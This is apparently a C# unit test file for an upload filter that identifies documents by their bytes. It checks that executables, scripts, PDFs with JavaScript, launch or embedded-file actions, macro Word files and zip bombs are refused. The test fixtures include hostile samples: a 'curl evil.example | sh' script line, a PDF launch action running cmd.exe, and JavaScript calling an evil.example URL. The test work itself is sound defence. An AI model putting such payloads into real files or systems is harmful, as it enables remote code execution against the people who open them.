using System.IO.Compression;
using System.Text;
using SearchFirm.Features.Common;
using SearchFirm.Features.Documents;
using SearchFirm.Tests.Documents;

namespace SearchFirm.Features.Tests.Documents;

/// <summary>The type is decided by the bytes; names and claimed content types play no part.</summary>
public sealed class DocumentInspectorTests
{
    private static readonly DocumentOptions Limits = new();

    private static DetectedType Inspect(byte[] bytes, DocumentOptions? limits = null)
    {
        using var stream = new MemoryStream(bytes);
        return DocumentInspector.Inspect(stream, limits ?? Limits);
    }

    private static string Refused(byte[] bytes, DocumentOptions? limits = null) =>
        Assert.Throws<UnsupportedContentException>(() => Inspect(bytes, limits))!.Code;

    [Test]
    public void A_pdf_is_recognised_by_its_header() => Assert.That(Inspect(Samples.Pdf()), Is.EqualTo(DocumentInspector.Pdf));

    [Test]
    public void A_word_document_is_recognised_by_its_parts() => Assert.That(Inspect(Samples.Docx()), Is.EqualTo(DocumentInspector.Docx));

    [Test]
    public void Utf8_text_with_or_without_a_byte_order_mark_is_plain_text()
    {
        Assert.That(Inspect(Samples.Text()), Is.EqualTo(DocumentInspector.Text));
        Assert.That(Inspect([0xEF, 0xBB, 0xBF, .. Samples.Text()]), Is.EqualTo(DocumentInspector.Text));
        Assert.That(Inspect(Encoding.UTF8.GetBytes("MZ Consulting: references for Dr Okafor")), Is.EqualTo(DocumentInspector.Text),
            "text that starts with the letters MZ is not a program");
    }

    [Test]
    public void Text_that_is_not_utf8_or_holds_a_nul_byte_is_refused()
    {
        Assert.That(Refused(Encoding.Unicode.GetBytes("Amara Okafor")), Is.EqualTo("unsupported-file-type"), "UTF-16 carries NUL bytes");
        Assert.That(Refused([.. "Ren"u8, 0xE9, .. "e"u8]), Is.EqualTo("unsupported-file-type"), "Latin-1, not UTF-8");
        Assert.That(Refused([.. "abc"u8, 0x00, .. "def"u8]), Is.EqualTo("unsupported-file-type"));
    }

    [Test]
    public void Programs_are_refused_as_programs()
    {
        Assert.That(Refused(Samples.WindowsExecutable()), Is.EqualTo("executable-file"));
        Assert.That(Refused(Samples.LinuxExecutable()), Is.EqualTo("executable-file"));
        Assert.That(Refused([0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1]), Is.EqualTo("executable-file"), "Mach-O");
        Assert.That(Refused("#!/bin/sh\ncurl evil.example | sh\n"u8.ToArray()), Is.EqualTo("executable-file"), "a script is text, but not a document");
    }

    [Test]
    public void A_program_behind_a_pdf_header_is_refused_as_a_program()
    {
        Assert.That(Refused(Samples.PdfHeaderThen(Samples.LinuxExecutable())), Is.EqualTo("executable-file"), "ELF");
        Assert.That(Refused(Samples.PdfHeaderThen(Samples.WindowsExecutable())), Is.EqualTo("executable-file"), "PE");
        Assert.That(Refused(Samples.PdfHeaderThen([0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1, .. new byte[64]])), Is.EqualTo("executable-file"), "Mach-O");
        Assert.That(Refused([.. Samples.Text("Amara Okafor\n"), .. Samples.LinuxExecutable()]), Is.EqualTo("executable-file"), "behind a line of text");
    }

    [TestCase("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "pdf-javascript", TestName = "A PDF with a JavaScript action is refused")]
    [TestCase("/AA << /O << /S /JavaScript /JS 9 0 R >> >>", "pdf-javascript", TestName = "A PDF with JavaScript run on opening a page is refused")]
    [TestCase("/Names << /J#61vaScript 9 0 R >>", "pdf-javascript", TestName = "A PDF naming JavaScript in #-escapes is refused")]
    [TestCase("/OpenAction << /S /Launch /F (cmd.exe) >>", "pdf-launch-action", TestName = "A PDF with a launch action is refused")]
    [TestCase("/Names << /EmbeddedFiles 9 0 R >>", "pdf-embedded-file", TestName = "A PDF carrying embedded files is refused")]
    [TestCase("/OpenAction 9 0 R", "pdf-embedded-file", "9 0 obj << /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream\nendobj\n",
        TestName = "A PDF with an embedded file stream is refused")]
    public void A_pdf_that_can_act_when_opened_is_refused_with_its_reason(string catalogExtra, string code, string objects = "")
    {
        var refusal = Assert.Throws<UnsupportedContentException>(() => Inspect(Samples.PdfWith(catalogExtra, objects)))!;

        Assert.That(refusal.Code, Is.EqualTo(code));
        Assert.That(refusal.Message, Is.Not.Empty);
    }

    [Test]
    public void A_pdf_hiding_javascript_in_a_compressed_object_stream_is_refused() =>
        Assert.That(Refused(Samples.PdfWithObjectStream("5 0 << /S /JavaScript /JS (app.launchURL('https://evil.example')) >>")), Is.EqualTo("pdf-javascript"));

    [Test]
    public void A_pdf_whose_text_or_data_merely_contains_those_words_is_accepted()
    {
        var inText = Samples.PdfWith("/Info << /Title (Lead engineer: /JavaScript and /JS, no /Launch \\( yet\\)) >>");
        var inData = Samples.PdfWith("", "3 0 obj << /Length 24 >>\nstream\n\u00ff/JS /Launch /JavaScript\u0001\nendstream\nendobj\n");
        var inComment = Samples.PdfWith("", "% written by /JavaScript tools\n");
        var objectStream = Samples.PdfWithObjectStream("5 0 << /S /GoTo /D [2 0 R /Fit] >>");

        Assert.Multiple(() =>
        {
            Assert.That(Inspect(inText), Is.EqualTo(DocumentInspector.Pdf));
            Assert.That(Inspect(inData), Is.EqualTo(DocumentInspector.Pdf));
            Assert.That(Inspect(inComment), Is.EqualTo(DocumentInspector.Pdf));
            Assert.That(Inspect(objectStream), Is.EqualTo(DocumentInspector.Pdf));
        });
    }

    [Test]
    public void Utf8_text_is_decoded_as_one_stream_across_reads()
    {
        // "é" (C3 A9) split across bytes 81,919 and 81,920, where one read of the file ends.
        var straddling = Encoding.UTF8.GetBytes(new string('a', 81_919) + "é and more");
        var truncated = "caf"u8.ToArray().Append((byte)0xE9).ToArray();
        var truncatedTwoBytes = Encoding.UTF8.GetBytes("Amara Okafor, caf").Concat(new byte[] { 0xC3 }).ToArray();

        Assert.That(straddling[81_919], Is.EqualTo(0xC3), "the test splits the character where it means to");
        Assert.That(Inspect(straddling), Is.EqualTo(DocumentInspector.Text));
        Assert.That(Refused(truncated), Is.EqualTo("unsupported-file-type"), "a file ending in a cut-off sequence");
        Assert.That(Refused(truncatedTwoBytes), Is.EqualTo("unsupported-file-type"), "a file ending in a lead byte");
    }

    [Test]
    public void Anything_else_is_refused() => Assert.That(Refused(Samples.Noise()), Is.EqualTo("unsupported-file-type"));

    [Test]
    public void A_zip_that_is_not_a_word_document_is_refused()
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
            zip.CreateEntry("xl/workbook.xml").Open().Dispose();

        Assert.That(Refused(buffer.ToArray()), Is.EqualTo("unsupported-file-type"));
        Assert.That(Refused([.. Samples.Docx().Take(200)]), Is.EqualTo("unsupported-file-type"), "a truncated archive");
    }

    [Test]
    public void A_macro_enabled_word_document_is_refused() =>
        Assert.That(Refused(Samples.Docx(mainContentType: Samples.WordMacroEnabledMain)), Is.EqualTo("unsupported-file-type"));

    [Test]
    public void A_word_document_that_inflates_past_the_total_limit_is_refused()
    {
        var bomb = Samples.DocxBomb(megabytes: 3);
        var limits = new DocumentOptions { MaxDocxUncompressedBytes = 2 * 1024 * 1024, MaxDocxCompressionRatio = 100_000 };

        Assert.That(Refused(bomb, limits), Is.EqualTo("docx-out-of-bounds"));
    }

    [Test]
    public void A_word_document_compressed_beyond_any_real_one_is_refused()
    {
        var bomb = Samples.DocxBomb(megabytes: 20);

        Assert.That(bomb.Length, Is.LessThan(200_000), "the sample is a bomb: megabytes from kilobytes");
        Assert.That(Refused(bomb), Is.EqualTo("docx-out-of-bounds"));
    }

    [Test]
    public void A_word_document_with_too_many_parts_is_refused()
    {
        Assert.That(Inspect(Samples.Docx(extraEntries: 900)), Is.EqualTo(DocumentInspector.Docx));
        Assert.That(Refused(Samples.Docx(extraEntries: 1_000)), Is.EqualTo("docx-out-of-bounds"));
    }

    [Test]
    public void A_word_document_that_lies_about_its_sizes_is_refused()
    {
        // Patch the central directory's uncompressed size of word/document.xml down to 10 bytes.
        var docx = Samples.Docx(bodyRepeat: 100);
        var name = Encoding.ASCII.GetBytes("word/document.xml");
        var central = IndexOf(docx, [0x50, 0x4B, 0x01, 0x02], name);
        BitConverter.GetBytes(10u).CopyTo(docx, central + 24);

        Assert.That(Refused(docx), Is.EqualTo("docx-out-of-bounds"));
    }

    /// <summary>The offset of the central directory header whose file name is <paramref name="name"/>.</summary>
    private static int IndexOf(byte[] zip, byte[] signature, byte[] name)
    {
        for (var i = 0; i < zip.Length - 46; i++)
        {
            if (zip.AsSpan(i, 4).SequenceEqual(signature) && zip.AsSpan(i + 46).StartsWith(name))
                return i;
        }

        throw new InvalidOperationException("No central directory entry for the name.");
    }
}
